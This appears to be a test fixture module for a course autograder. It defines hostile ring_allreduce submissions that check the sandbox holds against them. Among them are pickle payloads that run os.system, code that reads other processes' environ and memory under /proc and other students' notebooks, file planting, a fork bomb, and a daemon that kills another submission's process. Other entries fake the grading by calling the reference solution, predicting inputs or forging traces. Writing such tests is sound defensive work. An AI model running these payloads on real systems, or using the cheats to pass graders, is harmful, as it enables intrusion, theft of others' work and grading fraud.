"""Hostile ring_allreduce submissions: each one tries to get points from the grader, not the ring.

Each attack is the honest *wrong* submission (every quiz item answered wrong, the released
stub for anything it does not replace) with its ``ring_allreduce`` cell replaced; it must
score what that honest wrong submission scores, except where a test says otherwise.
``MARKER`` is a path only the grader's own process could create (the ranks have their own
``/tmp``); ``TOKEN`` sits in the honest right submission, which no other may read.
"""

from __future__ import annotations

import re
from pathlib import Path

import jupytext

REPO = Path(__file__).resolve().parents[2]

MARKER = "/tmp/course-tamper-marker"  # outside the sandbox, on purpose
TOKEN = "honest-right-private-token-5e1f"  # noqa: S105 - a marker string, not a password

# The unpickling attack: a forged "ok" reply whose value is a pickle that runs a command.
FORGED_PICKLE = f"""
import gc, os, pickle
from multiprocessing.connection import Connection

class Evil:
    def __reduce__(self):
        return (os.system, ("touch {MARKER}",))

def ring_allreduce(tensor):
    for obj in gc.get_objects():
        if isinstance(obj, Connection):
            try:
                obj.send_bytes(pickle.dumps(("ok", pickle.dumps([(tensor, None, [])] * 99))))
                obj.send_bytes(pickle.dumps(("ok", pickle.dumps(Evil()))))
            except Exception:
                pass
    tensor.mul_(0)
"""

# A tensor subclass whose pickle runs a command, returned as the rank's result.
EVIL_TENSOR = f"""
import os, torch

class Evil(torch.Tensor):
    def __reduce_ex__(self, proto):
        return (os.system, ("touch {MARKER}",))

def ring_allreduce(tensor):
    tensor.__class__ = Evil
"""

# Every rank's inputs, looked for in the caller's frames and anywhere in memory.
OTHER_INPUTS = """
import gc, sys, torch

def ring_allreduce(tensor):
    seen = {id(tensor)}
    frame = sys._getframe(1)
    while frame is not None:
        for value in list(frame.f_locals.values()):
            for t in value if isinstance(value, list) else [value]:
                if isinstance(t, torch.Tensor) and t.shape == tensor.shape and id(t) not in seen:
                    seen.add(id(t))
                    tensor.add_(t)
        frame = frame.f_back
"""

# The course's own ring, by every route: import, reload, the file itself.
REFERENCE = """
import importlib, pathlib
import course.instructor

def ring_allreduce(tensor):
    try:
        from course.instructor.reference import ring_allreduce as theirs
    except ImportError:
        try:
            module = importlib.reload(importlib.import_module("course.instructor.reference"))
            theirs = module.ring_allreduce
        except ImportError:
            path = pathlib.Path(course.instructor.__file__).parent / "reference.py"
            namespace = {}
            exec(path.read_text(), namespace)
            theirs = namespace["ring_allreduce"]
    theirs(tensor)
"""

COLLECTIVE = """
def ring_allreduce(tensor):
    dist.all_reduce(tensor)
"""

# A collective under other names: imported under an alias, and the process group's own method.
COLLECTIVE_RENAMED = """
from torch.distributed import all_reduce as add_up_everywhere
import torch.distributed.distributed_c10d as c10d

def ring_allreduce(tensor):
    if dist.get_world_size() % 2:
        c10d._get_default_group().allreduce([tensor]).wait()
    else:
        add_up_everywhere(tensor)
"""

# The sum through the rendezvous store: no message at all, so never a ring.
STORE = """
import pickle
import torch.distributed.distributed_c10d as c10d

calls = [0]

def ring_allreduce(tensor):
    store, n, rank = c10d._get_default_store(), dist.get_world_size(), dist.get_rank()
    calls[0] += 1
    store.set(f"x{calls[0]}-{rank}", pickle.dumps(tensor.clone()))
    total = sum(pickle.loads(store.get(f"x{calls[0]}-{r}")) for r in range(n))
    tensor.copy_(total)
"""

# Read what a grader might leave in reach: the course, gradebooks, other submissions.
READ_AROUND = """
import glob, os

def ring_allreduce(tensor):
    found = []
    for pattern in ("/work/**/*.ipynb", "/root/**/*.ipynb", "/tmp/**/*.ipynb", "/work/**/*.db",
                    "/tmp/**/*.db", "/proc/*/cwd/source/*/*.ipynb", "/proc/*/cwd/*.db"):
        for path in glob.glob(pattern, recursive=True)[:50]:
            try:
                with open(path, errors="replace") as f:
                    found.append(path + ": " + f.read(4000))
            except OSError as err:
                found.append(f"{path}: {err}")
    for pid in os.listdir("/proc"):
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    found.append(f.read(2000).decode(errors="replace"))
            except OSError:
                pass
    raise RuntimeError("\\n".join(found) or "nothing found")
"""

# Write outside: the submission folders, the course, the home folder.
WRITE_AROUND = """
import glob, os

def ring_allreduce(tensor):
    for pattern in ("/work/**/", "/root/", "/tmp/", "/proc/*/cwd/", "/proc/*/cwd/submitted/*/*/"):
        for folder in glob.glob(pattern, recursive=True)[:200]:
            try:
                with open(os.path.join(folder, "planted.txt"), "w") as f:
                    f.write("planted")
            except OSError:
                pass
    tensor.mul_(0)
"""

# Fill the process limit: if another submission shared it, its ranks could not start.
FORK_BOMB = """
import os, time

def ring_allreduce(tensor):
    children = 0
    for _ in range(2000):
        try:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
            children += 1
        except OSError:
            break
    time.sleep(30)
"""

# A daemon that outlives its launch (a new session, out of the rank's process group) and
# reads, then kills, the forkserver of any later submission holding TOKEN.
DAEMON = r"""
import os, sys, time, signal

TOKEN = b"honest-right-" + b"private-token-5e1f"  # built, so this cell does not hold it
started = [False]

def _family(pid, mine):
    while pid > 1:
        if pid in mine:
            return True
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            return False
    return False

def _scan(pid):
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", 0)
    except OSError as e:
        return None, repr(e)
    with mem:
        for line in maps:
            parts = line.split()
            if parts[1][:2] != "rw":
                continue
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            if hi - lo > 256 * 2**20:
                continue
            try:
                mem.seek(lo)
                data = mem.read(hi - lo)
            except (OSError, OverflowError, ValueError):
                continue
            i = data.find(TOKEN)
            if i >= 0:
                return data[max(0, i - 1500): i + 400], None
    return None, "no token"

def daemon(me_uid, mine):
    log = open("/tmp/daemon.log", "a", buffering=1)
    log.write(f"daemon {os.getpid()} uid {os.getuid()} mine {mine}\n")
    seen = set()
    end = time.time() + 400
    while time.time() < end:
        for name in os.listdir("/proc"):
            if not name.isdigit():
                continue
            pid = int(name)
            if pid in seen or pid == os.getpid():
                continue
            try:
                st = os.stat(f"/proc/{pid}")
                cmd = open(f"/proc/{pid}/cmdline", "rb").read()
            except OSError:
                continue
            if st.st_uid != me_uid or b"forkserver" not in cmd or _family(pid, mine):
                continue
            seen.add(pid)
            found, why = _scan(pid)
            log.write(f"pid {pid}: {why or 'TOKEN FOUND'}\n")
            if found:
                log.write(found.decode("latin-1") + "\n----\n")
                try:
                    os.kill(pid, signal.SIGKILL)
                    log.write(f"killed {pid}\n")
                except OSError as e:
                    log.write(f"kill {pid}: {e}\n")
        time.sleep(0.05)

def ring_allreduce(tensor):
    try:
        os.close(os.open("/tmp/daemon.lock", os.O_CREAT | os.O_EXCL | os.O_WRONLY))
    except OSError:
        return
    mine = {os.getppid()}  # this submission's forkserver: its ranks are left alone
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                daemon(os.getuid(), mine)
            finally:
                os._exit(0)
        os._exit(0)
    os.wait()
"""

# No message at all: the other ranks' inputs predicted from the case's seed, and the ring's
# own trace written into the recorder's log.
NO_COMM = """
import sys

def ring_allreduce(tensor):
    f = sys._getframe(1)
    while f is not None and not ("case" in f.f_locals and "i" in f.f_locals):
        f = f.f_back
    case, i = f.f_locals["case"], f.f_locals["i"]
    n = dist.get_world_size()
    if not case.recorded:
        from course.checks.ring_cases import inputs
        xs = inputs(case, n, seed=1000 * n + i)
        tensor.copy_(torch.stack([x.to(torch.float64) for x in xs]).sum(0).to(case.dtype))
        return
    from course.ring import recorder
    from course.ring.logs import as_list
    from course.ring.trace import ring_trace
    rec = recorder._active[0]
    for m in ring_trace(n, tensor.numel(), 8).messages:
        if m.rank == rec.rank:
            rec._write({"op": m.op, "message": as_list(m), "final": True})
"""

# A right ring, for the honest submissions (not the course's own text).
HONEST_RING = f'''
def ring_allreduce(tensor):
    """{TOKEN}"""
    rank, n = dist.get_rank(), dist.get_world_size()
    chunks = torch.tensor_split(tensor.view(-1), n)
    right, left = (rank + 1) % n, (rank - 1) % n
    for step in range(2 * (n - 1)):
        if step < n - 1:
            send_c, recv_c = (rank - step) % n, (rank - step - 1) % n
        else:
            send_c, recv_c = (rank + 1 - step + n - 1) % n, (rank - step + n - 1) % n
        incoming = torch.empty_like(chunks[recv_c])
        request = dist.isend(chunks[send_c], right)
        dist.recv(incoming, left)
        request.wait()
        if step < n - 1:
            chunks[recv_c].add_(incoming)
        else:
            chunks[recv_c].copy_(incoming)
'''


def solution_cell() -> str:
    """The source notebook's own ring_allreduce cell (markers and all, as the gradebook has it)."""
    nb = jupytext.read(REPO / "source" / "ring_allreduce" / "ring_allreduce.py")
    gid = "ring_allreduce"
    return next(c.source for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == gid)


def near_copy() -> str:
    """The solution with its local names changed, comments dropped and the docstring rewritten."""
    text = re.sub(r"\bchunks\b", "pieces", solution_cell())
    text = re.sub(r"\bincoming\b", "got", text)
    text = re.sub(r"#.*", "", text)
    return re.sub(r'"""[\s\S]*?"""', '"""My own ring."""', text, count=1)
